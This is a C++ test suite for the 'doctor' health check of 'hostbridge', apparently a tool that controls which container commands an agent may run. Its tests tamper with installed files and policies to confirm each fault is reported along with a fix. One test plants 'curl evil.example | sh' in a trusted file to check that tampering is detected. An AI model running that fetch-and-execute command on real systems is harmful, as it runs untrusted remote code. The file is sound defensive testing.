// `hostbridge doctor`: a healthy install, then each check of docs/COMMANDS.md broken
// on its own: doctor must name exactly that thing and print the bare fix.
#include <fcntl.h>
#include <pwd.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <filesystem>

#include "ipc/sys.hpp"
#include "tests/cli/cli_harness.hpp"

namespace hb::test {
namespace {

class Doctor : public ::testing::Test {
  protected:
    void SetUp() override {
        Ran run = home.hostbridge(install_args(project, {"--no-systemd"}));
        ASSERT_EQ(run.code, 0) << run.out << run.err;
    }

    Ran doctor() const { return home.hostbridge({"doctor", "--slug", "demo-app"}); }

    // The line that re-runs this install, as doctor prints it.
    std::string reinstall_prefix() const {
        return std::string(HB_BIN_DIR) + "/hostbridge install ";
    }
    // The line that writes what the agent reads anew after a hand edit.
    std::string policy_edit_prefix() const {
        return std::string(HB_BIN_DIR) + "/hostbridge policy edit --slug demo-app";
    }

    // Doctor found a problem mentioning `what`, and printed `fix` bare.
    void expect_problem(const std::string& what, const std::string& fix) const {
        Ran run = doctor();
        EXPECT_EQ(run.code, 1) << run.out;
        bool named = false;
        for (const auto& line : split_lines(run.out)) {
            if (line.rfind("PROBLEM: ", 0) == 0 && contains(line, what)) named = true;
        }
        EXPECT_TRUE(named) << "no PROBLEM line naming '" << what << "' in:\n" << run.out;
        bool fixed = false;
        for (const auto& line : split_lines(run.out)) {
            if (line.rfind(fix, 0) == 0) fixed = true;
        }
        EXPECT_TRUE(fixed) << "no bare fix line starting with '" << fix << "' in:\n" << run.out;
        EXPECT_TRUE(contains(run.out, "problem(s) found"));
    }

    TempDir root{"cli"};
    Home home{root.path()};
    Project project{root.path(), "demo-app"};
};

TEST_F(Doctor, AFreshNoSystemdInstallIsHealthy) {
    Ran run = doctor();
    EXPECT_EQ(run.code, 0) << run.out;
    EXPECT_TRUE(has_line(run.out, "healthy"));
    EXPECT_TRUE(contains(run.out, "info:    installed with --no-systemd")) << run.out;
    // The posture first (SECURITY.md, "Two postures").
    const std::vector<std::string> lines = split_lines(run.out);
    ASSERT_GE(lines.size(), 2u);
    EXPECT_EQ(lines[1],
              "posture: the engine runs as you: an escape through the engine reaches your files; "
              "up and rebuild wait for a person whatever the policy says");
    // Found from the project's directory without --slug, too.
    Ran here = home.hostbridge({"doctor"}, project.dir + "/untracked");
    EXPECT_EQ(here.code, 0) << here.out << here.err;
}

// Who runs the engine (docs/ENGINE-USER.md): as you, doctor says what an
// escape would reach and how to turn the engine user on; with an engine
// user whose socket cannot be opened, every command fails: a problem.
TEST_F(Doctor, SaysWhatAnEngineEscapeWouldReachAndHowToMoveTheEngineOut) {
    write_file(home.home + "/.ssh/id_ed25519", "key");
    write_file(home.home + "/.aws/credentials", "secret");
    Ran run = doctor();
    EXPECT_EQ(run.code, 0) << run.out;
    EXPECT_TRUE(contains(run.out,
                         "info:    the engine runs as you, so an engine escape would "
                         "reach ~/.ssh, ~/.aws, "))
        << run.out;
    EXPECT_TRUE(contains(run.out, "this bridge's bridge.json, policy and audit log")) << run.out;
    const passwd* me = ::getpwuid(::geteuid());
    ASSERT_NE(me, nullptr);
    EXPECT_TRUE(has_line(run.out, "sudo " + std::string(HB_BIN_DIR) +
                                      "/hostbridge engine setup --slug demo-app --user " +
                                      me->pw_name))
        << run.out;

    Ran moved = home.hostbridge(install_args(project, {"--no-systemd", "--engine-user", "nobody"}));
    ASSERT_EQ(moved.code, 0) << moved.out << moved.err;
    expect_problem(
        "the engine user nobody's socket /nonexistent/engine/podman.sock cannot be opened",
        "sudo " + std::string(HB_BIN_DIR) + "/hostbridge engine setup --slug demo-app");
    EXPECT_FALSE(contains(doctor().out, "an engine escape would reach"));
}

TEST_F(Doctor, NamesAMissingUnit) {
    ASSERT_EQ(::unlink((home.unit_dir() + "/hostbridge-demo-app.path").c_str()), 0);
    expect_problem("hostbridge-demo-app.path is missing", reinstall_prefix());
}

TEST_F(Doctor, NamesAUnitThatDiffersFromWhatInstallWrites) {
    const std::string unit = home.unit_dir() + "/hostbridge-demo-app.service";
    write_file(unit, read_file(unit) + "ExecStartPre=/bin/true\n");
    expect_problem("hostbridge-demo-app.service differs", reinstall_prefix());
}

TEST_F(Doctor, NamesAnExecutorThatIsNotTheInstalledOne) {
    const std::string exe = home.lib_dir("demo-app") + "/hostbridge-executor";
    write_file(exe, read_file(exe) + "tampered", 0755);
    expect_problem("hostbridge-executor (" + exe + ") is not the binary that was installed",
                   reinstall_prefix());
}

TEST_F(Doctor, NamesAMissingParser) {
    ASSERT_EQ(::unlink((home.lib_dir("demo-app") + "/hostbridge-parser").c_str()), 0);
    expect_problem("hostbridge-parser", reinstall_prefix());
}

TEST_F(Doctor, NamesAMissingEngineRelay) {
    const std::string relay = home.lib_dir("demo-app") + "/hostbridge-engine-relay";
    ASSERT_EQ(::unlink(relay.c_str()), 0);
    expect_problem("the installed hostbridge-engine-relay (" + relay + ") is missing",
                   reinstall_prefix());
}

// Without it every build is refused (engines/build_input/build_snapshot.cpp).
TEST_F(Doctor, NamesAMissingSnapshotCopy) {
    const std::string copy = home.lib_dir("demo-app") + "/hostbridge-snapshot";
    ASSERT_EQ(::unlink(copy.c_str()), 0);
    expect_problem("the installed hostbridge-snapshot (" + copy + ") is missing",
                   reinstall_prefix());
}

TEST_F(Doctor, NamesASpoolDirReplacedByASymlink) {
    const std::string requests = project.spool() + "/requests";
    ASSERT_EQ(::rmdir(requests.c_str()), 0);
    write_file(root.path() + "/decoy/keep", "");
    ASSERT_EQ(::symlink((root.path() + "/decoy").c_str(), requests.c_str()), 0);
    expect_problem(requests + " is a symlink", "rm -- " + requests);
}

TEST_F(Doctor, NamesASpoolDirWithAnInsaneMode) {
    const std::string tmp = project.spool() + "/tmp";
    ASSERT_EQ(::chmod(tmp.c_str(), 0777), 0);
    expect_problem(tmp + " has mode 0777, expected 0755", "chmod 0755 " + tmp);
}

TEST_F(Doctor, NamesAChangedTrustedFileWithItsDiff) {
    write_file(project.stack, read_file(project.stack) + "curl evil.example | sh\n", 0755);
    Ran run = doctor();
    EXPECT_TRUE(has_line(run.out, "+curl evil.example | sh")) << run.out;
    EXPECT_TRUE(has_line(run.out, "--- approved/stack")) << run.out;
    expect_problem("trusted file stack",
                   std::string(HB_BIN_DIR) + "/hostbridge approve --slug demo-app");
}

TEST_F(Doctor, NamesATrustedFileCreatedWherePinnedAbsent) {
    write_file(project.dir + "/.env", "COMPOSE_FILE=evil.yaml\n");
    expect_problem("trusted file .env",
                   std::string(HB_BIN_DIR) + "/hostbridge approve --slug demo-app");
}

// Issue 45: a 4 GiB sparse `.env` (pinned absent) was hashed whole by
// doctor's gate and read again for its diff. It is named, and not read.
TEST_F(Doctor, NamesASparseTrustedFileWithoutReadingIt) {
    write_file(project.dir + "/.env", "");
    std::filesystem::resize_file(project.dir + "/.env", 4ull << 30);
    const ReadWatch watch(project.dir + "/.env");
    expect_problem("trusted file .env exists but was pinned as absent",
                   std::string(HB_BIN_DIR) + "/hostbridge approve --slug demo-app");
    EXPECT_FALSE(watch.read_since());
}

TEST_F(Doctor, NamesPolicyWarnings) {
    const std::string policy = home.config_dir("demo-app") + "/policy.conf";
    write_file(policy, read_file(policy) + "MODE_deploy=auto\n");
    expect_problem("unknown", policy_edit_prefix());
    write_file(policy, "MODE_ping=auto\nMODE_up=sometimes\n");
    expect_problem("MODE_up", policy_edit_prefix());
}

// Lint: a rule the executor cannot read is a problem (it denies every
// command); a rule the argv table makes moot is a warning; per-service and
// dry-run rules are listed.
TEST_F(Doctor, LintsPerServiceRules) {
    const std::string policy = home.config_dir("demo-app") + "/policy.conf";
    const std::string seeded = read_file(policy);
    write_file(policy, seeded + "MODE_restart.dbb=deny\n");
    expect_problem("MODE_restart.dbb\" names no service of this install", policy_edit_prefix());
    write_file(policy, seeded + "MODE_up.api=deny\n");
    expect_problem("up takes no service", policy_edit_prefix());

    write_file(policy,
               seeded + "MODE_rebuild.db=auto\nMODE_restart.db=deny\nMODE_logs.api=dry-run\n");
    Ran run = doctor();  // the tool manifest is stale now: a problem of its own
    EXPECT_FALSE(contains(run.out, "PROBLEM: policy")) << run.out;
    EXPECT_TRUE(contains(run.out, "WARNING: MODE_rebuild.db=auto in " + policy +
                                      " has no effect: arg is not a buildable service"))
        << run.out;
    EXPECT_TRUE(contains(run.out, "info:    the policy makes restart db deny")) << run.out;
    EXPECT_TRUE(contains(run.out, "info:    the policy makes logs api dry-run")) << run.out;
}

TEST_F(Doctor, NamesAnAgentDocThatNoLongerSaysWhatThePolicySays) {
    const std::string policy = home.config_dir("demo-app") + "/policy.conf";
    write_file(policy, read_file(policy) + "MODE_restart.db=deny\n");
    expect_problem("AGENT.md does not say what this install and policy.conf say now",
                   policy_edit_prefix());
}

TEST_F(Doctor, NamesAMissingPolicyFile) {
    ASSERT_EQ(::unlink((home.config_dir("demo-app") + "/policy.conf").c_str()), 0);
    expect_problem("policy file", reinstall_prefix());
}

TEST_F(Doctor, NamesALockHeldByAProcessThatIsNotADrain) {
    // Something took the drain's record lock and kept it (executor/drain.cpp):
    // a process of the person's, or a stale tool. Record locks survive exec,
    // so the child locks, then becomes sleep (the exe doctor names).
    const std::string lock = home.state_dir("demo-app") + "/drain.lock";
    // Not close-on-exec: a process that closes any descriptor of the file
    // (as exec closes those) drops its record locks on it.
    int fd = ::open(lock.c_str(), O_RDWR | O_CREAT, 0600);
    ASSERT_GE(fd, 0);
    Command sleep;
    sleep.argv = {"/bin/sleep", "60"};
    sleep.before_exec = [fd] { return hb::sys::try_record_lock(fd); };
    Child child(sleep);
    const std::string pid = std::to_string(child.pid());
    // Wait until the child is sleep (its exe is the one doctor names).
    wait_until(
        [&] {
            std::error_code ec;
            return std::filesystem::read_symlink("/proc/" + pid + "/exe", ec).filename() == "sleep";
        },
        std::chrono::seconds(2));
    expect_problem("held by pid " + pid, "kill " + pid);
    child.wait_or_kill(std::chrono::milliseconds(0));
    ::close(fd);
    EXPECT_EQ(doctor().code, 0);
}

TEST_F(Doctor, ADescriptorOfTheLockInAnotherProcessIsNoProblem) {
    // A long-lived process with the lock file open, as a container started
    // without closing descriptors would have: it holds no record lock, and
    // no drain is kept from running.
    const std::string lock = home.state_dir("demo-app") + "/drain.lock";
    int fd = ::open(lock.c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0600);
    ASSERT_GE(fd, 0);
    Command sleep;
    sleep.argv = {"/bin/sleep", "60"};
    sleep.fds = {{fd, 3}};
    Child child(sleep);
    ::close(fd);  // only the child has it open now
    const auto d = doctor();
    EXPECT_EQ(d.code, 0) << d.out;
    EXPECT_TRUE(contains(d.out, "drain lock free")) << d.out;
}

TEST_F(Doctor, WarnsWhenUpOrRebuildRunUnattended) {
    const std::string policy = home.config_dir("demo-app") + "/policy.conf";
    std::string text;
    for (const std::string& line : split_lines(read_file(policy))) {
        text += (line == "MODE_rebuild=ask" ? "MODE_rebuild=auto" : line) + "\n";
    }
    write_file(policy, text + "MODE_rebuild.api=auto\n");
    const Ran d = doctor();
    // Only what was set back by hand is named (up stays ask here).
    EXPECT_TRUE(contains(d.out, "WARNING: " + policy +
                                    " has MODE_rebuild=auto MODE_rebuild.api=auto; rebuild is "
                                    "held for a person (ask): a stack builds"))
        << d.out;
    EXPECT_FALSE(contains(d.out, "MODE_up=auto")) << d.out;
}

// The rate budget left, as the executor's own limiter counts it (issue 48:
// the person ran out of changes without seeing it coming).
TEST_F(Doctor, ShowsTheRateBudgetLeftAsTheExecutorCountsIt) {
    const std::string fresh = doctor().out;
    EXPECT_TRUE(contains(fresh, "ok:      rate budget, mutating: 0 of ")) << fresh;
    const std::string name = drop_request(project.spool(), "restart", "web");
    const Drained d =
        run_drain_until_answered(exec_start_of(home, "demo-app"), project.spool(), name);
    ASSERT_EQ(d.response.value("state", ""), "done") << d.response.dump() << d.log;
    const std::string after = doctor().out;
    EXPECT_TRUE(contains(after, "ok:      rate budget, mutating: 1 of ")) << after;
    EXPECT_TRUE(contains(after, "ok:      rate budget, read_only: 0 of ")) << after;
    // A state the executor refuses every request by is a problem, with its fix.
    const std::string state = home.state_dir("demo-app") + "/ratelimit.json";
    write_file(state, "{not json");
    expect_problem("ratelimit.json cannot be read", "rm " + state);
}

TEST_F(Doctor, NamesABrokenAuditChain) {
    // A second event, then an edit of the first one.
    ASSERT_EQ(home.hostbridge(install_args(project, {"--no-systemd"})).code, 0);
    const std::string log = home.state_dir("demo-app") + "/audit.jsonl";
    std::string text = read_file(log);
    auto pos = text.find("services");
    ASSERT_NE(pos, std::string::npos);
    text.replace(pos, 8, "SERVICES");
    write_file(log, text, 0600);
    expect_problem("hash chain is broken at audit.jsonl line 1",
                   std::string(HB_BIN_DIR) + "/hostbridge audit --slug demo-app --verify");
}

TEST_F(Doctor, NamesAGrowingQuarantine) {
    write_file(project.spool() + "/quarantine/garbage.json", "{{{");
    expect_problem("quarantine/ is growing", "ls -la -- " + project.spool() + "/quarantine");
}

TEST_F(Doctor, NamesARequestTheDrainCouldNotMove) {
    write_file(project.spool() + "/requests/.stuck-20260101T000000Z-up-0000000000000000.json/x",
               "");
    expect_problem("could not be moved", "rm -rf -- " + project.spool() + "/requests/.stuck-");
}

TEST_F(Doctor, NamesASpoolGitNoLongerIgnores) {
    write_file(project.dir + "/.git/info/exclude", "");
    expect_problem("git does not ignore the spool", reinstall_prefix());
}

TEST_F(Doctor, NamesAMissingAgentClient) {
    ASSERT_EQ(::unlink((project.spool() + "/request").c_str()), 0);
    expect_problem("agent client", reinstall_prefix());
}

// A hand edit of policy.conf leaves the manifest and AGENT.md behind;
// `policy edit` saved unchanged (the fix doctor prints) renews both.
TEST_F(Doctor, NamesAnAgentManifestLeftBehindByAHandEditAndPolicyEditRenewsIt) {
    const std::string policy = home.config_dir("demo-app") + "/policy.conf";
    std::string text = read_file(policy);
    const auto at = text.find("MODE_restart=auto");
    ASSERT_NE(at, std::string::npos) << text;
    write_file(policy, text.replace(at, 17, "MODE_restart=deny"));
    expect_problem("tool manifest", policy_edit_prefix());
    Ran edit = home.hostbridge({"policy", "edit", "--slug", "demo-app"}, "",
                               {"VISUAL=", "EDITOR=/bin/true"});
    ASSERT_EQ(edit.code, 0) << edit.out << edit.err;
    Ran healed = doctor();
    EXPECT_EQ(healed.code, 0) << healed.out;
    EXPECT_TRUE(contains(healed.out, "the agent's tool manifest matches the policy")) << healed.out;
}

TEST_F(Doctor, NamesAMissingAgentManifest) {
    ASSERT_EQ(::unlink((project.spool() + "/bin/hostbridge-agent.json").c_str()), 0);
    expect_problem("tool manifest", reinstall_prefix());
}

// AGENT.md is checked on its own, not only where the manifest is there.
TEST_F(Doctor, NamesAStaleAgentDocEvenWithTheManifestGone) {
    ASSERT_EQ(::unlink((project.spool() + "/bin/hostbridge-agent.json").c_str()), 0);
    write_file(project.spool() + "/AGENT.md", "You may run anything.\n");
    expect_problem("AGENT.md does not say what this install and policy.conf say now",
                   policy_edit_prefix());
}

TEST_F(Doctor, NamesAnUnreadableConfig) {
    write_file(home.config_dir("demo-app") + "/bridge.json", "{\"version\": 1}");
    expect_problem("cannot read " + home.config_dir("demo-app") + "/bridge.json",
                   reinstall_prefix());
}

// notify_command (docs/CONFIG.md) is the person's own: a program that is
// gone or not executable would only show in the next held request's log.
TEST_F(Doctor, NamesANotifyCommandThatDoesNotExistOrIsNotExecutable) {
    const std::string config_file = home.config_dir("demo-app") + "/bridge.json";
    const std::string program = root.path() + "/notify";
    nlohmann::json config = home.bridge_json("demo-app");
    config["notify_command"] = {program, "-d", "@-"};
    write_file(config_file, config.dump(2) + "\n");
    const std::string named = "notify_command in " + config_file + " names " + program;
    Ran run = doctor();
    EXPECT_EQ(run.code, 1) << run.out;
    EXPECT_TRUE(has_line(run.out, "PROBLEM: " + named +
                                      ", which does not exist; install it, or correct or "
                                      "remove the key"))
        << run.out;
    write_file(program, "#!/bin/sh\nexit 0\n");
    ::chmod(program.c_str(), 0644);
    run = doctor();
    EXPECT_EQ(run.code, 1) << run.out;
    EXPECT_TRUE(has_line(run.out, "PROBLEM: " + named +
                                      ", which is not an executable file; correct or remove "
                                      "the key"))
        << run.out;
    ::chmod(program.c_str(), 0755);
    run = doctor();
    EXPECT_EQ(run.code, 0) << run.out;
    EXPECT_TRUE(has_line(run.out, "ok:      " + named + ", an executable file")) << run.out;
}

TEST_F(Doctor, WantsEnabledUnitsForASystemdInstall) {
    // Installed for systemd, but no user manager is reachable here.
    ASSERT_EQ(home.hostbridge(install_args(project)).code, 0);
    expect_problem("no systemd user manager is reachable",
                   "systemctl --user enable --now hostbridge-demo-app.path");
}

TEST_F(Doctor, TheReinstallFixReallyFixes) {
    ASSERT_EQ(::unlink((home.unit_dir() + "/hostbridge-demo-app.path").c_str()), 0);
    ASSERT_EQ(::chmod((project.spool() + "/archive").c_str(), 0700), 0);
    Ran broken = doctor();
    ASSERT_EQ(broken.code, 1);
    std::string fix;
    for (const auto& line : split_lines(broken.out)) {
        if (line.rfind(reinstall_prefix(), 0) == 0) fix = line;
    }
    ASSERT_FALSE(fix.empty()) << broken.out;
    // Paste it into a shell, as a person would.
    Command shell;
    shell.argv = {"/bin/sh", "-c", fix};
    shell.env = environment_with(home.env());
    shell.cwd = "/";
    ASSERT_EQ(run(shell), 0) << fix;
    Ran healed = doctor();
    EXPECT_EQ(healed.code, 0) << healed.out;
}

}  // namespace
}  // namespace hb::test
